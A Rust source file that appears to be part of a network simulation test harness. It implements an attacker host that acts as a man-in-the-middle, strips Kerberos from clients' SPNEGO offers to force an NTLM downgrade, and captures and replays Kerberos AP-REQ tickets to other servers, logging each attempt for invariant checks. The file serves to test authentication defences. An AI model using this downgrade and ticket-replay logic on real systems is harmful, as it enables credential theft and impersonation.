//! The attacker host: a man-in-the-middle on the way to an application
//! server. The scenario gives it the server's name as an alias (a poisoned
//! DNS answer or ARP spoof: clients that ask for the server reach the
//! attacker), and it forwards every connection to the real server.
//!
//! With `strip_kerberos`, it rewrites the client's first SPNEGO token
//! (RFC 4178 NegTokenInit): Kerberos (both OIDs) leaves the mechanism list
//! and the optimistic Kerberos token is dropped, so the server picks NTLM:
//! the downgrade the mechListMIC (RFC 4178 §5) exists to detect. Blocking
//! port 88 to force NTLM is a firewall rule, not this program.
//!
//! With `replay_to` / `replay_after` it is the third-party ticket
//! interceptor of issue 8: it keeps each client's first context token (the
//! AP-REQ with its ticket, inside SPNEGO) and presents it itself, on a
//! connection of its own, to each `replay_to` server at once, and to the
//! real target once `replay_after` has passed on its clock (checked when
//! the next client connects, so warped or idle-skipped time counts). Each
//! replay's result is an `attack` event: `replay ... accepted` would mean
//! a stolen ticket worked (the `replay-accepted` invariant).
//!
//! Each rewrite is an `attack` event in the trace.

use std::cell::RefCell;
use std::net::{Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::time::{Duration, SystemTime};

use kerbside_net::app_client::FramedStream;
use kerbside_net::{Clock, Net, TcpListen};
use kerbside_server::sample_proto::{self, FrameDecoder, token_flags};
use kerbside_wire::gss::oid;
use kerbside_wire::spnego::NegotiationToken;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::HostCtx;
use super::app::DEFAULT_APP_PORT;
use crate::world::World;

/// Removes Kerberos from a client's initial SPNEGO token; `None` when the
/// token is not one (it is forwarded unchanged).
pub fn strip_kerberos(token: &[u8]) -> Option<Vec<u8>> {
    let NegotiationToken::Init(mut init) = NegotiationToken::decode(token).ok()? else {
        return None;
    };
    let is_krb = |m: &kerbside_wire::der::Oid| *m == oid::KRB5 || *m == oid::MS_KRB5;
    if !init.mech_types.iter().any(is_krb) {
        return None;
    }
    let first_was_krb = init.mech_types.first().is_some_and(is_krb);
    init.mech_types.retain(|m| !is_krb(m));
    if first_was_krb {
        // The optimistic token belonged to Kerberos.
        init.mech_token = None;
    }
    Some(NegotiationToken::Init(init).encode_initial())
}

/// A captured first context token.
struct Captured {
    at: SystemTime,
    from: SocketAddr,
    token: Vec<u8>,
    late_done: bool,
}

/// What the server made of a replayed token: accepted, or refused (with
/// the KRB-ERROR code when it sent one).
fn judge(reply: Option<&[u8]>) -> (bool, Option<i32>) {
    use kerbside_wire::gss::{self, tok_id};
    use kerbside_wire::krb::KrbMessage;
    use kerbside_wire::spnego::NegState;
    let Some(reply) = reply else {
        return (false, None);
    };
    let krb_code = |t: &[u8]| match gss::decode_krb_token(t) {
        Ok(k) if k.tok_id == tok_id::KRB_ERROR => match kerbside_wire::krb::decode(k.body) {
            Ok(KrbMessage::KrbError(e)) => Some(e.error_code),
            _ => None,
        },
        _ => None,
    };
    match NegotiationToken::decode(reply) {
        Ok(NegotiationToken::Resp(r)) => {
            let code = r.response_token.as_deref().and_then(krb_code);
            (
                r.neg_state != Some(NegState::Reject) && code.is_none(),
                code,
            )
        }
        _ => match gss::decode_krb_token(reply) {
            Ok(k) if k.tok_id == tok_id::AP_REP => (true, None),
            _ => (false, krb_code(reply)),
        },
    }
}

/// Presents `token` to `server` as if it were the client.
async fn replay<N: Net>(net: &N, server: &str, port: u16, token: &[u8]) -> (bool, Option<i32>) {
    let Ok(addr) = net.resolve(server, port).await else {
        return (false, None);
    };
    let Ok(stream) = net.connect(addr).await else {
        return (false, None);
    };
    let mut io = FramedStream::new(
        stream,
        Duration::from_secs(10),
        sample_proto::DEFAULT_MAX_TOKEN,
    );
    if io
        .send(token_flags::NOOP | token_flags::CONTEXT_NEXT, &[])
        .await
        .is_err()
        || io.send(token_flags::CONTEXT, token).await.is_err()
    {
        return (false, None);
    }
    let reply = io.recv().await.ok().map(|f| f.token);
    io.close().await;
    judge(reply.as_deref())
}

fn record_replay(
    world: &World,
    me: &str,
    to: &str,
    from: SocketAddr,
    why: &str,
    r: (bool, Option<i32>),
) {
    let verdict = if r.0 { "accepted" } else { "refused" };
    let code = r.1.map(|c| format!(" code={c}")).unwrap_or_default();
    world.record_event(
        "attack",
        format!("{me} replay of {from}'s ticket to {to} ({why}): {verdict}{code}"),
    );
}

pub(crate) async fn run(ctx: HostCtx) -> turmoil::Result {
    let opts = ctx
        .host
        .attacker
        .clone()
        .ok_or_else(|| format!("attacker {} has no [host.attacker] options", ctx.host.name))?;
    let port = opts.port.unwrap_or(DEFAULT_APP_PORT);
    let listener = ctx
        .net
        .bind_tcp(SocketAddr::from((Ipv4Addr::UNSPECIFIED, port)))
        .await?;
    let captured: Rc<RefCell<Vec<Captured>>> = Rc::default();
    let intercept = !opts.replay_to.is_empty() || opts.replay_after.is_some();
    loop {
        let Ok((client, peer)) = listener.accept().await else {
            continue;
        };
        // Late replays first: tokens captured long enough ago go back to
        // the real target (after their ticket's end, in the scenarios).
        if let Some(after) = opts.replay_after {
            let now = ctx.clock.now();
            let due: Vec<(SocketAddr, Vec<u8>)> = captured
                .borrow_mut()
                .iter_mut()
                .filter(|c| !c.late_done && now.duration_since(c.at).unwrap_or_default() >= after.0)
                .map(|c| {
                    c.late_done = true;
                    (c.from, c.token.clone())
                })
                .collect();
            for (from, token) in due {
                let r = replay(&ctx.net, &opts.target, port, &token).await;
                record_replay(ctx.world(), &ctx.host.name, &opts.target, from, "late", r);
            }
        }
        let net = ctx.net.clone();
        let world = ctx.world().clone();
        let me = ctx.host.name.clone();
        let target = opts.target.clone();
        let strip = opts.strip_kerberos;
        let replay_to = opts.replay_to.clone();
        let clock = ctx.clock.clone();
        let captured = Rc::clone(&captured);
        tokio::task::spawn_local(async move {
            let Ok(addr) = net.resolve(&target, port).await else {
                return;
            };
            let Ok(server) = net.connect(addr).await else {
                return;
            };
            let first = Rc::new(RefCell::new(None::<Vec<u8>>));
            proxy(
                client,
                server,
                strip,
                intercept.then(|| Rc::clone(&first)),
                &world,
                &me,
                peer,
            )
            .await;
            let Some(token) = first.borrow_mut().take() else {
                return;
            };
            for other in &replay_to {
                let r = replay(&net, other, port, &token).await;
                record_replay(&world, &me, other, peer, "elsewhere", r);
            }
            captured.borrow_mut().push(Captured {
                at: clock.now(),
                from: peer,
                token,
                late_done: false,
            });
        });
    }
}

/// Forwards both ways; the client's frames pass through the decoder so the
/// first CONTEXT token can be rewritten.
async fn proxy<S>(
    client: S,
    server: S,
    strip: bool,
    capture: Option<Rc<RefCell<Option<Vec<u8>>>>>,
    world: &World,
    me: &str,
    peer: SocketAddr,
) where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let (mut cr, mut cw) = tokio::io::split(client);
    let (mut sr, mut sw) = tokio::io::split(server);
    let upstream = async {
        let mut dec = FrameDecoder::default();
        let mut buf = [0u8; 4096];
        let mut first_context = true;
        loop {
            let n = cr.read(&mut buf).await.unwrap_or(0);
            if n == 0 {
                let _ = sw.shutdown().await;
                return;
            }
            dec.push(buf.get(..n).unwrap_or_default());
            loop {
                let frame = match dec.next_frame() {
                    Ok(Some(f)) => f,
                    Ok(None) => break,
                    Err(_) => return,
                };
                let mut token = frame.token;
                if first_context
                    && frame.flags & token_flags::CONTEXT != 0
                    && let Some(c) = &capture
                {
                    *c.borrow_mut() = Some(token.clone());
                }
                if strip
                    && first_context
                    && frame.flags & token_flags::CONTEXT != 0
                    && let Some(t) = strip_kerberos(&token)
                {
                    world.record_event(
                        "attack",
                        format!("{me} stripped Kerberos from the SPNEGO offer of {peer}"),
                    );
                    token = t;
                }
                if frame.flags & token_flags::CONTEXT != 0 {
                    first_context = false;
                }
                if sw
                    .write_all(&sample_proto::encode(frame.flags, &token))
                    .await
                    .is_err()
                {
                    return;
                }
            }
        }
    };
    let downstream = async {
        let _ = tokio::io::copy(&mut sr, &mut cw).await;
        let _ = cw.shutdown().await;
    };
    tokio::join!(upstream, downstream);
}
